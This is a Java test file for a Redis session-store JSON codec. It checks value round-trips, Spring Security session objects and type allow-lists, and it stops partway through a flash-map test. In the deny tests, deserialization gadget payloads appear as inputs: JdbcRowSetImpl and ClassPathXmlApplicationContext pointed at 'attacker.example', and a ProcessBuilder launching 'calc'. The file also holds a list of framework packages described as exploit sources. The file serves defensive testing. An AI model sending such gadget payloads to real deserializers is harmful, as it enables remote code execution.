package io.sessionstore.redis.json;

import java.io.File;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.charset.StandardCharsets;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.Period;
import java.time.YearMonth;
import java.time.ZoneId;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.TimeZone;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;

import com.fasterxml.jackson.annotation.JsonInclude;
import io.sessionstore.redis.AttributeCodec;
import io.sessionstore.redis.AttributeDecodingException;
import io.sessionstore.redis.AttributeEncodingException;
import jakarta.servlet.http.Cookie;
import jakarta.servlet.http.HttpSession;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.context.i18n.SimpleTimeZoneAwareLocaleContext;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.Authentication;
import org.springframework.security.core.authority.FactorGrantedAuthority;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.security.core.context.SecurityContextImpl;
import org.springframework.security.core.userdetails.User;
import org.springframework.security.web.authentication.WebAuthenticationDetails;
import org.springframework.security.web.context.HttpSessionSecurityContextRepository;
import org.springframework.security.web.csrf.CsrfToken;
import org.springframework.security.web.csrf.DefaultCsrfToken;
import org.springframework.security.web.csrf.HttpSessionCsrfTokenRepository;
import org.springframework.security.web.savedrequest.DefaultSavedRequest;
import org.springframework.security.web.savedrequest.HttpSessionRequestCache;
import org.springframework.web.servlet.FlashMap;
import org.springframework.web.servlet.i18n.SessionLocaleResolver;
import org.springframework.web.servlet.support.SessionFlashMapManager;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class JsonAttributeCodecTests {

	private static final String PREFIX = JsonAttributeCodecTests.class.getName() + "$";

	private static final AtomicBoolean witnessInitialized = new AtomicBoolean();

	private final JsonAttributeCodec defaults = JsonAttributeCodec.withDefaults();

	private final JsonAttributeCodec codec = JsonAttributeCodec.builder()
		.allowTypes(Cart.class, Item.class, Color.class, Operation.class, Customer.class, Drawing.class,
				Circle.class, Square.class, Opaque.class, Exploding.class, Node.class)
		.build();

	@Test
	void stringIsStoredAsItsRawUtf8TextWithoutType() {
		AttributeCodec.EncodedAttribute encoded = this.codec.encode("username", "Zoë ✓ \"quoted\"");

		assertThat(new String(encoded.value(), StandardCharsets.UTF_8)).isEqualTo("Zoë ✓ \"quoted\"");
		assertThat(encoded.type()).isNull();
	}

	@Test
	void valueWithoutTypeDecodesAsUtf8StringAsWrittenByRedisPy() {
		assertThat(this.defaults.decode("username", "andrew".getBytes(StandardCharsets.UTF_8), null))
			.isEqualTo("andrew");
		assertThat(this.defaults.decode("json_looking", "{\"a\":1}".getBytes(StandardCharsets.UTF_8), null))
			.isEqualTo("{\"a\":1}");
	}

	static Stream<Arguments> basicValues() {
		return Stream.of(Arguments.of(3L, "3", "Long"), Arguments.of(-7, "-7", "Integer"),
				Arguments.of((short) 3, "3", "Short"), Arguments.of((byte) 3, "3", "Byte"),
				Arguments.of(true, "true", "Boolean"), Arguments.of(false, "false", "Boolean"),
				Arguments.of(2.5d, "2.5", "Double"), Arguments.of(2.5f, "2.5", "Float"),
				Arguments.of(new BigDecimal("12.50"), "12.50", "BigDecimal"),
				Arguments.of(new BigDecimal("0.000001"), "0.000001", "BigDecimal"),
				Arguments.of(new BigInteger("123456789012345678901234567890"), "123456789012345678901234567890",
						"BigInteger"),
				Arguments.of('c', "\"c\"", "Character"),
				Arguments.of(Instant.parse("2026-04-02T12:34:56.789Z"), "\"2026-04-02T12:34:56.789Z\"",
						"java.time.Instant"),
				Arguments.of(UUID.fromString("0b8e3c1a-5d2f-4a7e-9c1b-2f3e4d5c6b7a"),
						"\"0b8e3c1a-5d2f-4a7e-9c1b-2f3e4d5c6b7a\"", "UUID"),
				Arguments.of(Locale.UK, "\"en-GB\"", "Locale"),
				Arguments.of(LocalDate.of(2026, 4, 2), "\"2026-04-02\"", "java.time.LocalDate"),
				Arguments.of(Duration.ofMinutes(30), "\"PT30M\"", "java.time.Duration"),
				Arguments.of(DayOfWeek.MONDAY, "\"MONDAY\"", "java.time.DayOfWeek"),
				Arguments.of(ZonedDateTime.parse("2026-04-02T14:00+02:00[Europe/Paris]"),
						"\"2026-04-02T14:00:00+02:00[Europe/Paris]\"", "java.time.ZonedDateTime"));
	}

	@ParameterizedTest
	@MethodSource("basicValues")
	void basicValueIsStoredAsPlainJsonWithItsSimpleOrFullClassName(Object value, String json, String type) {
		AttributeCodec.EncodedAttribute encoded = this.defaults.encode("value", value);

		assertThat(new String(encoded.value(), StandardCharsets.UTF_8)).isEqualTo(json);
		assertThat(encoded.type()).isEqualTo(type);
		assertThat(decode(this.defaults, "value", encoded)).isEqualTo(value);
	}

	@ParameterizedTest
	@MethodSource("basicValues")
	void basicValueRecordedByItsFullClassNameIsRead(Object value, String json, String type) {
		assertThat(this.defaults.decode("value", json.getBytes(StandardCharsets.UTF_8), value.getClass().getName()))
			.isEqualTo(value);
	}

	@Test
	void longIsStoredAsDecimalTextSoHincrbyWorksAndKeepsItsType() {
		AttributeCodec.EncodedAttribute encoded = this.defaults.encode("page_views", 3L);

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8).isEqualTo("3");
		assertThat(encoded.type()).isEqualTo("Long");
		assertThat(this.defaults.decode("page_views", "4".getBytes(StandardCharsets.UTF_8), "Long")).isEqualTo(4L);
	}

	@Test
	void bigDecimalIsWrittenWithoutExponent() {
		AttributeCodec.EncodedAttribute encoded = this.defaults.encode("total", new BigDecimal("1E+3"));

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8).isEqualTo("1000");
		assertThat((BigDecimal) decode(this.defaults, "total", encoded)).isEqualByComparingTo("1000");
	}

	static Stream<Object> roundTripValues() {
		Map<String, Object> mixed = new LinkedHashMap<>();
		mixed.put("name", "andrew");
		mixed.put("count", 1);
		mixed.put("views", 3L);
		mixed.put("ratio", 0.5);
		mixed.put("price", new BigDecimal("9.99"));
		mixed.put("at", Instant.parse("2026-04-02T12:34:56Z"));
		mixed.put("tags", new ArrayList<>(List.of("a", "b")));
		mixed.put("ids", new HashSet<>(Set.of(1L, 2L)));
		mixed.put("nested", new HashMap<>(Map.of("k", 'v')));
		mixed.put("none", null);
		return Stream.concat(basicValues().map((arguments) -> arguments.get()[0]),
				Stream.of(Integer.MAX_VALUE, Long.MIN_VALUE, Double.MAX_VALUE, Float.MIN_VALUE, Short.MAX_VALUE,
						Byte.MIN_VALUE, LocalDateTime.of(2026, 4, 2, 12, 0, 1, 5),
						OffsetDateTime.parse("2026-04-02T12:00:00+05:30"), Period.ofDays(3), YearMonth.of(2026, 4),
						ZoneId.of("Europe/Paris"), TimeZone.getTimeZone("America/New_York"),
						Locale.forLanguageTag("sr-Latn-RS"), new ArrayList<>(List.of(1, 2L, "x")), List.of(1L, 2L),
						List.of(1L, 2L, 3L), List.of(), Set.of("x"), Set.of("x", "y", "z"), Map.of("k", 1L),
						Map.of("a", 1L, "b", 2L, "c", 3L), new LinkedHashSet<>(List.of(3L, 1L)),
						new TreeSet<>(Set.of("b", "a")), mixed, new TreeMap<>(Map.of("b", 2L, "a", 1L)),
						Collections.unmodifiableList(new ArrayList<>(List.of(1L))), Collections.emptyList(),
						Collections.singletonList(5L), new CopyOnWriteArrayList<>(List.of(1L, "x"))));
	}

	@ParameterizedTest
	@MethodSource("roundTripValues")
	void basicValueRoundTripsToAnEqualValueOfTheSameClass(Object value) {
		Object decoded = roundTrip(this.defaults, "value", value);

		assertThat(decoded).isEqualTo(value).hasSameClassAs(value);
	}

	@Test
	void valuesInsideUntypedCollectionsCarryTheirClassWhereJsonWouldLoseIt() {
		List<Object> list = new ArrayList<>(List.of("a", 1, 2L, 2.5, new BigDecimal("1.0"),
				Instant.parse("2026-04-02T12:00:00Z"), new ArrayList<>(List.of(true))));

		AttributeCodec.EncodedAttribute encoded = this.defaults.encode("list", list);

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("[\"a\",1,[\"Long\",2],2.5,[\"BigDecimal\",1.0],"
					+ "[\"java.time.Instant\",\"2026-04-02T12:00:00Z\"],[\"java.util.ArrayList\",[true]]]");
		List<?> decoded = (List<?>) decode(this.defaults, "list", encoded);
		assertThat(decoded).isEqualTo(list);
		assertThat(decoded).map(Object::getClass).isEqualTo(list.stream().map(Object::getClass).toList());
	}

	@Test
	void propertyRemovedFromAClassAfterADeployIsIgnoredOnRead() {
		JsonAttributeCodec codec = JsonAttributeCodec.builder().allowTypes(Item.class).build();
		byte[] stored = "{\"sku\":\"A-1\",\"quantity\":2,\"colour\":\"red\"}".getBytes(StandardCharsets.UTF_8);

		assertThat(codec.decode("item", stored, Item.class.getName())).isEqualTo(new Item("A-1", 2));
	}

	@Test
	void recordWithNestedListOfRecordsIsStoredWithoutTypeIds() {
		Cart cart = new Cart(List.of(new Item("A-1", 2), new Item("B-7", 1)), new BigDecimal("12.50"),
				Instant.parse("2026-04-02T12:34:56Z"));

		AttributeCodec.EncodedAttribute encoded = this.codec.encode("cart", cart);

		assertThat(encoded.type()).isEqualTo(PREFIX + "Cart");
		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("{\"items\":[{\"sku\":\"A-1\",\"quantity\":2},{\"sku\":\"B-7\",\"quantity\":1}],"
					+ "\"total\":12.50,\"updatedAt\":\"2026-04-02T12:34:56Z\"}");
		assertThat(decode(this.codec, "cart", encoded)).isEqualTo(cart).isInstanceOf(Cart.class);
	}

	@Test
	void fieldOfAnInterfaceTypeCarriesTheClassOfItsValue() {
		Drawing drawing = new Drawing(List.of(new Circle(1.5), new Square(2)));

		AttributeCodec.EncodedAttribute encoded = this.codec.encode("drawing", drawing);

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("{\"shapes\":[{\"@class\":\"" + PREFIX + "Circle\",\"radius\":1.5},{\"@class\":\"" + PREFIX
					+ "Square\",\"side\":2}]}");
		assertThat(decode(this.codec, "drawing", encoded)).isEqualTo(drawing);
	}

	@Test
	void applicationTypesRoundTripInsideListsAndMaps() {
		Map<String, Object> map = new LinkedHashMap<>();
		map.put("cart", new Cart(List.of(new Item("A-1", 2)), BigDecimal.ONE, Instant.EPOCH));
		map.put("color", Color.RED);
		map.put("op", Operation.PLUS);
		List<Object> list = List.of(new Item("A-1", 2), map);

		AttributeCodec.EncodedAttribute encoded = this.codec.encode("things", list);

		assertThat(encoded.type()).isEqualTo("java.util.ImmutableCollections$List12");
		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.startsWith("[{\"@class\":\"" + PREFIX + "Item\",\"sku\":\"A-1\",\"quantity\":2},")
			.contains("\"color\":[\"" + PREFIX + "Color\",\"RED\"]");
		assertThat(decode(this.codec, "things", encoded)).isEqualTo(list).hasSameClassAs(list);
	}

	@Test
	void pojoWithUntypedListRoundTrips() {
		Customer customer = new Customer();
		customer.setName("andrew");
		customer.setTags(new ArrayList<>(List.of("vip", 42L, new Item("A-1", 1))));

		AttributeCodec.EncodedAttribute encoded = this.codec.encode("customer", customer);

		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("{\"name\":\"andrew\",\"tags\":[\"vip\",[\"Long\",42],{\"@class\":\"" + PREFIX
					+ "Item\",\"sku\":\"A-1\",\"quantity\":1}]}");
		assertThat(decode(this.codec, "customer", encoded)).isEqualTo(customer);
	}

	@Test
	void enumConstantWithBodyIsRecordedAsItsEnumType() {
		AttributeCodec.EncodedAttribute encoded = this.codec.encode("op", Operation.PLUS);

		assertThat(encoded.type()).isEqualTo(PREFIX + "Operation");
		assertThat(decode(this.codec, "op", encoded)).isSameAs(Operation.PLUS);
	}

	@Test
	void arraysRoundTrip() {
		String[] strings = { "a", "b" };
		Object[] objects = { 1L, "x" };

		assertThat((String[]) roundTrip(this.defaults, "strings", strings)).containsExactly("a", "b");
		assertThat((Object[]) roundTrip(this.defaults, "objects", objects)).containsExactly(1L, "x");
	}

	@Test
	void typeOutsideTheAllowListIsNotDecoded() {
		byte[] json = "{\"items\":[],\"total\":1,\"updatedAt\":\"2026-04-02T12:00:00Z\"}"
			.getBytes(StandardCharsets.UTF_8);

		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.defaults.decode("cart", json, PREFIX + "Cart"))
			.withMessage("Session attribute 'cart' of type " + PREFIX + "Cart cannot be decoded: type " + PREFIX
					+ "Cart is not allowed; allow it with JsonAttributeCodec.builder().allowTypes(...)"
					+ " or allowPackages(...)")
			.satisfies((ex) -> {
				assertThat(ex.getAttributeName()).isEqualTo("cart");
				assertThat(ex.getTypeName()).isEqualTo(PREFIX + "Cart");
			});
	}

	@Test
	void typeIdOutsideTheAllowListIsNotDecodedAndItsClassIsNotLoaded() {
		byte[] json = ("[{\"@class\":\"" + PREFIX + "Witness\",\"value\":\"x\"}]").getBytes(StandardCharsets.UTF_8);

		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.codec.decode("items", json, "java.util.ArrayList"))
			.withMessageStartingWith("Session attribute 'items' of type java.util.ArrayList cannot be decoded: ")
			.withMessageContaining(PREFIX + "Witness")
			.withMessageContaining("denied");
		assertThat(witnessInitialized).isFalse();
	}

	@Test
	void wellKnownGadgetClassNamesAreDenied() {
		for (String gadget : List.of("org.springframework.context.support.ClassPathXmlApplicationContext",
				"com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder", "java.net.URL")) {
			byte[] json = ("[[\"" + gadget + "\",\"http://attacker.example/x\"]]").getBytes(StandardCharsets.UTF_8);

			assertThatExceptionOfType(AttributeDecodingException.class)
				.isThrownBy(() -> this.defaults.decode("list", json, "java.util.ArrayList"))
				.withMessageContaining(gadget);
			assertThatExceptionOfType(AttributeDecodingException.class)
				.isThrownBy(() -> this.defaults.decode("value", json, gadget))
				.withMessageContaining("type " + gadget + " is not allowed");
		}
	}

	@Test
	void missingClassIsReportedWithAttributeAndType() {
		JsonAttributeCodec codec = JsonAttributeCodec.builder().allowPackages("com.acme").build();

		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> codec.decode("cart", "{}".getBytes(StandardCharsets.UTF_8), "com.acme.Gone"))
			.withMessage("Session attribute 'cart' of type com.acme.Gone cannot be decoded: class not found");
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> codec.decode("carts", "[{\"@class\":\"com.acme.Gone\"}]".getBytes(StandardCharsets.UTF_8),
					"java.util.ArrayList"))
			.withMessageStartingWith("Session attribute 'carts' of type java.util.ArrayList cannot be decoded: ")
			.withMessageContaining("com.acme.Gone");
	}

	@Test
	void malformedJsonIsReportedWithAttributeAndType() {
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.defaults.decode("page_views", "3x".getBytes(StandardCharsets.UTF_8),
					"java.lang.Long"))
			.withMessageStartingWith("Session attribute 'page_views' of type java.lang.Long cannot be decoded: ");
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.codec.decode("cart", "{\"items\":[".getBytes(StandardCharsets.UTF_8),
					PREFIX + "Cart"))
			.withMessageStartingWith("Session attribute 'cart' of type " + PREFIX + "Cart cannot be decoded: ");
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.defaults.decode("views", "null".getBytes(StandardCharsets.UTF_8),
					"java.lang.Long"))
			.withMessage(
					"Session attribute 'views' of type java.lang.Long cannot be decoded: the stored value is null");
	}

	@Test
	void typeOutsideTheAllowListIsRejectedWhenEncoding() {
		Cart cart = new Cart(List.of(), BigDecimal.ONE, Instant.EPOCH);

		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.defaults.encode("cart", cart))
			.withMessage("Session attribute 'cart' of type " + PREFIX + "Cart cannot be encoded: type " + PREFIX
					+ "Cart is not allowed; allow it with JsonAttributeCodec.builder().allowTypes(...)"
					+ " or allowPackages(...)")
			.satisfies((ex) -> assertThat(ex.getAttributeName()).isEqualTo("cart"));
	}

	@Test
	void typeOutsideTheAllowListInsideACollectionIsRejectedWhenEncoding() {
		List<Object> items = new ArrayList<>(List.of(new Item("A-1", 1)));

		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.defaults.encode("items", items))
			.withMessageStartingWith("Session attribute 'items' of type java.util.ArrayList cannot be encoded: ")
			.withMessageContaining("type " + PREFIX + "Item is not allowed");
	}

	@Test
	void valueJacksonCannotWriteIsRejectedWhenEncoding() {
		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.codec.encode("opaque", new Opaque()))
			.withMessageStartingWith("Session attribute 'opaque' of type " + PREFIX + "Opaque cannot be encoded: ")
			.withMessageContaining("no properties discovered");
		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.codec.encode("exploding", new Exploding()))
			.withMessageStartingWith(
					"Session attribute 'exploding' of type " + PREFIX + "Exploding cannot be encoded: ")
			.withMessageContaining("boom");
	}

	@Test
	void selfReferencingGraphIsRejectedWhenEncoding() {
		Node node = new Node();
		node.setNext(node);
		List<Object> list = new ArrayList<>();
		list.add(list);

		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.codec.encode("node", node))
			.withMessageStartingWith("Session attribute 'node' of type " + PREFIX + "Node cannot be encoded: ");
		assertThatExceptionOfType(AttributeEncodingException.class)
			.isThrownBy(() -> this.codec.encode("list", list))
			.withMessageStartingWith("Session attribute 'list' of type java.util.ArrayList cannot be encoded: ");
	}

	@Test
	void allowedPackageCoversSubPackagesButNotPackagesSharingItsPrefix() {
		JsonAttributeCodec codec = JsonAttributeCodec.builder().allowPackages("io.sessionstore").build();
		JsonAttributeCodec lookalike = JsonAttributeCodec.builder().allowPackages("io.session").build();
		Item item = new Item("A-1", 1);

		assertThat(roundTrip(codec, "item", item)).isEqualTo(item);
		assertThatExceptionOfType(AttributeEncodingException.class).isThrownBy(() -> lookalike.encode("item", item));
	}

	@Test
	void wholeJavaPackagesCannotBeAllowed() {
		assertThatIllegalArgumentException().isThrownBy(() -> JsonAttributeCodec.builder().allowPackages("java.lang"))
			.withMessage("package java.lang cannot be allowed as a whole: it is part of java, which holds classes "
					+ "that deserialization exploits are built from; allow the application's own package, such as "
					+ "com.example.cart, or single classes with allowTypes(...)");
	}

	@ParameterizedTest
	@CsvSource({ "javax.naming, javax", "jakarta.servlet, jakarta", "com.sun.rowset, com.sun",
			"org.springframework, org.springframework", "org.springframework.security.core, org.springframework",
			"tools.jackson.databind, tools.jackson", "com.fasterxml.jackson.databind, com.fasterxml",
			"org.apache.commons.collections4, org.apache", "org.hibernate, org.hibernate",
			"org.codehaus.groovy, org.codehaus", "ch.qos.logback, ch.qos", "io.netty.util, io.netty",
			"io.lettuce.core, io.lettuce", "com.google.common, com.google", "groovy.lang, groovy",
			"kotlin.reflect, kotlin", "com.mchange.v2.c3p0, com.mchange", "org.bouncycastle.jce, org.bouncycastle" })
	void packagesOfFrameworksAndLibrariesCannotBeAllowed(String packageName, String root) {
		assertThatIllegalArgumentException().isThrownBy(() -> JsonAttributeCodec.builder().allowPackages(packageName))
			.withMessage("package " + packageName + " cannot be allowed as a whole: it is part of " + root
					+ ", which holds classes that deserialization exploits are built from; allow the application's "
					+ "own package, such as com.example.cart, or single classes with allowTypes(...)");
	}

	@ParameterizedTest
	@CsvSource({ "org, org.springframework", "org., org.springframework", "com, com.sun", "io, io.netty" })
	void packagesThatContainAFrameworkOrLibraryCannotBeAllowed(String packageName, String root) {
		assertThatIllegalArgumentException().isThrownBy(() -> JsonAttributeCodec.builder().allowPackages(packageName))
			.withMessage("package " + packageName + " cannot be allowed as a whole: it contains " + root
					+ ", which holds classes that deserialization exploits are built from; allow the application's "
					+ "own package, such as com.example.cart, or single classes with allowTypes(...)");
	}

	@ParameterizedTest
	@ValueSource(strings = { "example", "shop.", "." })
	void topLevelPackagesCannotBeAllowed(String packageName) {
		assertThatIllegalArgumentException().isThrownBy(() -> JsonAttributeCodec.builder().allowPackages(packageName))
			.withMessage("package " + packageName + " cannot be allowed as a whole: a top-level package spans the "
					+ "classes of many libraries; allow the application's own package, such as com.example.cart, "
					+ "or single classes with allowTypes(...)");
	}

	@ParameterizedTest
	@ValueSource(strings = { "com.example.cart", "io.sessionstore.sample", "org.example.shop", "scalable.shop",
			"com.googleplex.shop", "org.springframeworks.shop" })
	void applicationPackagesCanBeAllowedEvenWhenTheirNamesStartLikeAFrameworks(String packageName) {
		JsonAttributeCodec.Builder builder = JsonAttributeCodec.builder();

		assertThat(builder.allowPackages(packageName)).isSameAs(builder);
	}

	@Test
	void builderChecksItsArguments() {
		JsonAttributeCodec.Builder builder = JsonAttributeCodec.builder();

		assertThatIllegalArgumentException().isThrownBy(() -> builder.allowTypes((Class<?>[]) null))
			.withMessage("types must not be null");
		assertThatIllegalArgumentException().isThrownBy(() -> builder.allowPackages(""))
			.withMessage("packageNames must not contain an empty name");
		assertThatIllegalArgumentException().isThrownBy(() -> builder.classLoader(null))
			.withMessage("classLoader must not be null");
		assertThatIllegalArgumentException().isThrownBy(() -> builder.mapper(null))
			.withMessage("customizer must not be null");
	}

	@Test
	void classesAreLoadedWithTheGivenClassLoader() {
		RecordingClassLoader forAttributeType = new RecordingClassLoader(getClass().getClassLoader());
		RecordingClassLoader forTypeId = new RecordingClassLoader(getClass().getClassLoader());
		byte[] item = "{\"sku\":\"A-1\",\"quantity\":1}".getBytes(StandardCharsets.UTF_8);
		byte[] list = ("[{\"@class\":\"" + PREFIX + "Item\",\"sku\":\"A-1\",\"quantity\":1}]")
			.getBytes(StandardCharsets.UTF_8);

		JsonAttributeCodec.builder().allowTypes(Item.class).classLoader(forAttributeType).build().decode("item", item,
				PREFIX + "Item");
		JsonAttributeCodec.builder().allowTypes(Item.class).classLoader(forTypeId).build().decode("items", list,
				"java.util.ArrayList");

		assertThat(forAttributeType.requested).contains(PREFIX + "Item");
		assertThat(forTypeId.requested).contains(PREFIX + "Item");
	}

	@Test
	void mapperCustomizerIsApplied() {
		JsonAttributeCodec codec = JsonAttributeCodec.builder()
			.allowTypes(Item.class)
			.mapper((builder) -> builder.changeDefaultPropertyInclusion(
					(inclusion) -> inclusion.withValueInclusion(JsonInclude.Include.NON_NULL)))
			.build();

		assertThat(codec.encode("item", new Item(null, 1)).value()).asString(StandardCharsets.UTF_8)
			.isEqualTo("{\"quantity\":1}");
	}

	@Test
	void securityContextRoundTrips() {
		MockHttpServletRequest request = new MockHttpServletRequest("POST", "/login");
		request.setRemoteAddr("203.0.113.9");
		HttpSession session = request.getSession();
		User user = new User("andrew", "{noop}secret",
				List.of(new SimpleGrantedAuthority("ROLE_USER"), new SimpleGrantedAuthority("ROLE_ADMIN"),
						FactorGrantedAuthority.fromAuthority(FactorGrantedAuthority.PASSWORD_AUTHORITY)));
		user.eraseCredentials();
		UsernamePasswordAuthenticationToken authentication = UsernamePasswordAuthenticationToken.authenticated(user,
				null, user.getAuthorities());
		authentication.setDetails(new WebAuthenticationDetails(request));
		new HttpSessionSecurityContextRepository().saveContext(new SecurityContextImpl(authentication), request,
				new MockHttpServletResponse());
		Object context = session.getAttribute(HttpSessionSecurityContextRepository.SPRING_SECURITY_CONTEXT_KEY);

		AttributeCodec.EncodedAttribute encoded = this.defaults.encode("SPRING_SECURITY_CONTEXT", context);

		assertThat(encoded.type()).isEqualTo("SecurityContextImpl");
		assertThat(encoded.value()).asString(StandardCharsets.UTF_8)
			.startsWith("{\"authentication\":{\"@class\":\"UsernamePasswordAuthenticationToken\"")
			.contains("{\"@class\":\"SimpleGrantedAuthority\",\"authority\":\"ROLE_ADMIN\"}")
			.contains("{\"@class\":\"FactorGrantedAuthority\",")
			.contains("\"details\":{\"@class\":\"WebAuthenticationDetails\",")
			.contains("\"principal\":{\"@class\":\"User\",")
			.contains("\"remoteAddress\":\"203.0.113.9\"")
			.doesNotContain("org.springframework")
			.doesNotContain("secret");
		Object decoded = decode(this.defaults, "SPRING_SECURITY_CONTEXT", encoded);
		assertThat(decoded).isEqualTo(context).usingRecursiveComparison().isEqualTo(context);
		User principal = (User) ((SecurityContextImpl) decoded).getAuthentication().getPrincipal();
		assertThat(principal.getAuthorities()).extracting("authority")
			.containsExactlyInAnyOrder("ROLE_USER", "ROLE_ADMIN", FactorGrantedAuthority.PASSWORD_AUTHORITY);
	}

	@Test
	void securityContextStoredWithClassNamesIsRead() {
		String json = "{\"authentication\":{\"@class\":"
				+ "\"org.springframework.security.authentication.UsernamePasswordAuthenticationToken\","
				+ "\"authenticated\":true,\"authorities\":[{\"@class\":"
				+ "\"org.springframework.security.core.authority.SimpleGrantedAuthority\",\"authority\":\"ROLE_USER\"}],"
				+ "\"credentials\":null,\"details\":null,\"principal\":{\"@class\":"
				+ "\"org.springframework.security.core.userdetails.User\",\"accountNonExpired\":true,"
				+ "\"accountNonLocked\":true,\"authorities\":[{\"@class\":"
				+ "\"org.springframework.security.core.authority.SimpleGrantedAuthority\",\"authority\":\"ROLE_USER\"}],"
				+ "\"credentialsNonExpired\":true,\"enabled\":true,\"password\":null,\"username\":\"andrew\"}}}";

		Object decoded = this.defaults.decode("SPRING_SECURITY_CONTEXT", json.getBytes(StandardCharsets.UTF_8),
				"org.springframework.security.core.context.SecurityContextImpl");

		Authentication authentication = ((SecurityContextImpl) decoded).getAuthentication();
		assertThat(authentication).isInstanceOf(UsernamePasswordAuthenticationToken.class);
		assertThat(authentication.isAuthenticated()).isTrue();
		assertThat(authentication.getName()).isEqualTo("andrew");
		assertThat(authentication.getAuthorities()).extracting("authority").containsExactly("ROLE_USER");
		assertThat(this.defaults.encode("SPRING_SECURITY_CONTEXT", decoded).value()).asString(StandardCharsets.UTF_8)
			.isEqualTo(json.replace("org.springframework.security.authentication.", "")
				.replace("org.springframework.security.core.authority.", "")
				.replace("org.springframework.security.core.userdetails.", ""));
	}

	@Test
	void shortNamesAreReadOnlyForTheClassesTheyWereGivenTo() {
		assertThat(this.defaults.decode("list", "[1,[\"Long\",2]]".getBytes(StandardCharsets.UTF_8),
				"java.util.ArrayList"))
			.isEqualTo(List.of(1, 2L));
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.defaults.decode("list",
					"[[\"ProcessBuilder\",[\"calc\"]]]".getBytes(StandardCharsets.UTF_8), "java.util.ArrayList"));
		assertThatExceptionOfType(AttributeDecodingException.class)
			.isThrownBy(() -> this.defaults.decode("builder", "{}".getBytes(StandardCharsets.UTF_8), "ProcessBuilder"))
			.withMessageContaining("type ProcessBuilder is not allowed");
	}

	@Test
	void csrfTokenRoundTrips() {
		MockHttpServletRequest request = new MockHttpServletRequest();
		HttpSessionCsrfTokenRepository repository = new HttpSessionCsrfTokenRepository();
		CsrfToken token = repository.generateToken(request);
		repository.saveToken(token, request, new MockHttpServletResponse());
		String name = HttpSessionCsrfTokenRepository.class.getName() + ".CSRF_TOKEN";
		Object stored = request.getSession().getAttribute(name);

		Object decoded = roundTrip(this.defaults, name, stored);

		assertThat(decoded).isInstanceOf(DefaultCsrfToken.class).usingRecursiveComparison().isEqualTo(token);
	}

	@Test
	void savedRequestRoundTrips() {
		MockHttpServletRequest request = new MockHttpServletRequest("GET", "/orders/42");
		request.setScheme("https");
		request.setServerName("shop.example");
		request.setServerPort(443);
		request.setQueryString("view=full&lang=fr");
		request.addParameter("view", "full");
		request.addParameter("lang", "fr");
		request.addHeader("Accept", "text/html");
		request.addHeader("Accept-Language", "fr-FR");
		request.setCookies(new Cookie("theme", "dark"));
		request.addPreferredLocale(Locale.FRANCE);
		new HttpSessionRequestCache().saveRequest(request, new MockHttpServletResponse());
		Object stored = request.getSession().getAttribute("SPRING_SECURITY_SAVED_REQUEST");

		Object decoded = roundTrip(this.defaults, "SPRING_SECURITY_SAVED_REQUEST", stored);

		assertThat(decoded).isInstanceOf(DefaultSavedRequest.class).usingRecursiveComparison().isEqualTo(stored);
		assertThat(((DefaultSavedRequest) decoded).getRedirectUrl())
			.isEqualTo("https://shop.example/orders/42?view=full&lang=fr&continue");
	}

	@Test
	void flashMapsRoundTrip() {
		MockHttpServletRequest request = new MockHttpServletRequest("POST", "/orders");
		FlashMap flashMap = new FlashMap();
		flashMap.put("message", "Order saved");
		flashMap.put("orderId", 42L);
		flashMap.put("lines", new ArrayList<>(List.of("A-1", "B-7")));
		flashMap.setTargetRequestPath("/orders/42");
		flashMap.addTargetRequestParam("view", "full");
		new SessionFlashMapManager().saveOutputFlashMap(flashMap, request, new MockHttpServletResponse());
		String name = SessionFlashMapManager.class.getName() + ".FLASH_MAPS";
		Object stored = request.getSession().getAttribute(name);

